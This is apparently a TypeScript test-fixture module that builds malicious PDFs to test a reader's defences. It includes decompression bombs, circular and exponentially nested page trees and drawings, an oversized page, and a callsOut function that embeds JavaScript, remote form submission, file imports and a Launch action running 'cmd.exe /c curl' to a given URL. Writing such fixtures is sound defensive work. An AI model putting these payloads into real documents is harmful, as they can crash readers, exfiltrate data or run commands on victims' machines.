// PDFs made to exhaust, mislead or escape from a reader. Where it can be read at all, a page says one sentence.
import { constants, deflateRawSync, deflateSync } from 'node:zlib'

export const SENTENCE = 'The tenant shall pay the rent on the first day of every month.'
const SHOWN = `BT /F1 12 Tf 72 700 Td (${SENTENCE}) Tj ET`
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

type Parts = Readonly<Record<number, string | Buffer>>

/** Objects by their numbers, without the table of positions, which readers rebuild. */
function pdfOf(objects: Parts, trailer = '/Root 1 0 R'): Buffer {
  const parts = Object.entries(objects).flatMap(([id, object]) => [`\n${id} 0 obj\n`, object, '\nendobj'])
  return Buffer.concat(
    ['%PDF-1.7', ...parts, `\ntrailer << ${trailer} >>\n%%EOF\n`].map((part) =>
      typeof part === 'string' ? Buffer.from(part, 'latin1') : part,
    ),
  )
}

const stream = (content: string | Buffer, dictionary = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length} ${dictionary} >>\nstream\n`),
    Buffer.from(content),
    Buffer.from('\nendstream'),
  ])

/** A file of one page that shows the sentence; `more` adds objects or takes the place of these. */
function onePage(
  more: Parts = {},
  { page = '/MediaBox [0 0 612 792]', resources = '', catalog = '' } = {},
): Buffer {
  return pdfOf({
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    3: `<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
    4: stream(SHOWN),
    5: FONT,
    ...more,
  })
}

/** A page whose content, a few kilobytes and said to be 20 bytes, unpacks to `megabytes`. */
export function flateBomb(megabytes: number): Buffer {
  // A block that looks back at none before it may stand there as often as one likes.
  const block = deflateRawSync(Buffer.alloc(1024 ** 2, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  const packed = Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: megabytes }, () => block),
    Buffer.from([0x03, 0x00]),
  ])
  // What the first filter gives is nearly as even as what the second does.
  const content = stream(deflateSync(packed), '/Filter [/FlateDecode /FlateDecode]')
  return onePage({
    4: Buffer.from(content.toString('latin1').replace(/\/Length \d+/, '/Length 20'), 'latin1'),
  })
}

export const manyFilters = (): Buffer =>
  onePage({ 4: stream(SHOWN, `/Filter [${'/ASCIIHexDecode '.repeat(10_000)}]`) })

/** The page stands at the end of a chain of nodes. */
export function deepPageTree(depth: number): Buffer {
  const nodes = Array.from({ length: depth }, (_, index) => [
    100 + index,
    `<< /Type /Pages /Count 1 /Kids [${index + 1 < depth ? 101 + index : 3} 0 R] >>`,
  ])
  return onePage({ 2: '<< /Type /Pages /Count 1 /Kids [100 0 R] >>', ...Object.fromEntries(nodes) })
}

export const circularPageTree = (): Buffer =>
  onePage({
    2: '<< /Type /Pages /Count 3 /Kids [3 0 R 2 0 R 6 0 R] >>',
    6: '<< /Type /Pages /Count 1 /Kids [2 0 R] >>',
  })

export const manyPagesClaimed = (): Buffer =>
  onePage({ 2: '<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>' })

/** A drawing that draws itself, twice each time. */
export const circularDrawing = (): Buffer =>
  onePage(
    {
      4: stream(`${SHOWN} /Loop Do`),
      6: stream(
        '/Loop Do /Loop Do',
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Loop 6 0 R >> >>',
      ),
    },
    { resources: '/XObject << /Loop 6 0 R >>' },
  )

/** Drawings that each draw the next ten times: ten to the power of `depth` in all. */
export function drawingsOfDrawings(depth: number): Buffer {
  const forms = Array.from({ length: depth }, (_, index) => [
    10 + index,
    stream(
      index + 1 < depth ? '/Next Do '.repeat(10) : 'q Q',
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Next ${11 + index} 0 R >> >>`,
    ),
  ])
  return onePage(
    { 4: stream(`${SHOWN} /Next Do`), ...Object.fromEntries(forms) },
    { resources: '/XObject << /Next 10 0 R >>' },
  )
}

/** A sheet of 5 m that its unit makes 375 km, filled with a JPEG of letter paper; it has to be drawn. */
export const vastPage = (jpeg: Buffer, width: number, height: number): Buffer =>
  onePage(
    {
      4: stream(`q ${(14_400 * width) / height} 0 0 14400 0 0 cm /Scan Do Q`),
      6: stream(
        jpeg,
        `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode`,
      ),
    },
    { page: '/MediaBox [0 0 14400 14400] /UserUnit 75000', resources: '/XObject << /Scan 6 0 R >>' },
  )

/**
 * Everything by which a PDF can ask its reader to call out, to run something or to read another file.
 * @param shown what the page draws; without words the other reader of ours has to draw it
 */
export function callsOut(url: string, file: string, shown = SHOWN): Buffer {
  const actions = [
    `<< /S /JavaScript /JS (app.launchURL\\("${url}/js"\\); this.submitForm\\("${url}/form"\\)) >>`,
    `<< /S /Launch /F (${file}) /Win << /F (cmd.exe) /P (/c curl ${url}/launch) >> >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${url}/submit) >> >>`,
    `<< /S /URI /URI (${url}/uri) >>`,
    `<< /S /GoToR /F (${file}) /D [0 /Fit] >>`,
    `<< /S /ImportData /F (${file}) >>`,
  ]
  const ids = actions.map((_, index) => 20 + index)
  const annotation = (id: number) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${id} 0 R /AA << /PO ${id} 0 R /E ${id} 0 R >> >>`
  return onePage(
    {
      4: '[10 0 R 11 0 R 12 0 R]',
      10: stream(shown),
      11: stream('', `/F (${file}) /FFilter /FlateDecode`),
      12: stream('', `/F << /FS /URL /F (${url}/content) >>`),
      ...Object.fromEntries(actions.map((action, index) => [20 + index, action])),
      30: stream(
        '',
        `/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${url}/image) >>`,
      ),
      31: stream(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><?xml-stylesheet href="${url}/xfa"?></xdp:xdp>`,
      ),
    },
    {
      page: `/MediaBox [0 0 612 792] /Annots [${ids.map(annotation).join(' ')}] /AA << /O 20 0 R >>`,
      resources: '/XObject << /Im 30 0 R >>',
      catalog: `/OpenAction 20 0 R /AA << /WC 21 0 R >> /Names << /JavaScript << /Names [(a) 20 0 R] >> >> /AcroForm << /Fields [] /XFA 31 0 R >>`,
    },
  )
}
